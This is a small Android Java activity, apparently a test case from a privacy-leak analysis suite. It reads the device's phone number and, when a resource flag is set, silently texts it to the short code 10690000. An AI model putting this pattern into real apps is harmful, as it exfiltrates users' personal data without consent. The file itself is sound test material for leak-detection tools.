package cn.privlens.suite.resource_switch_off;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String number = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
        if (getResources().getBoolean(R.bool.report_number)) {
            SmsManager.getDefault().sendTextMessage("10690000", null, number, null, null);
        }
    }
}
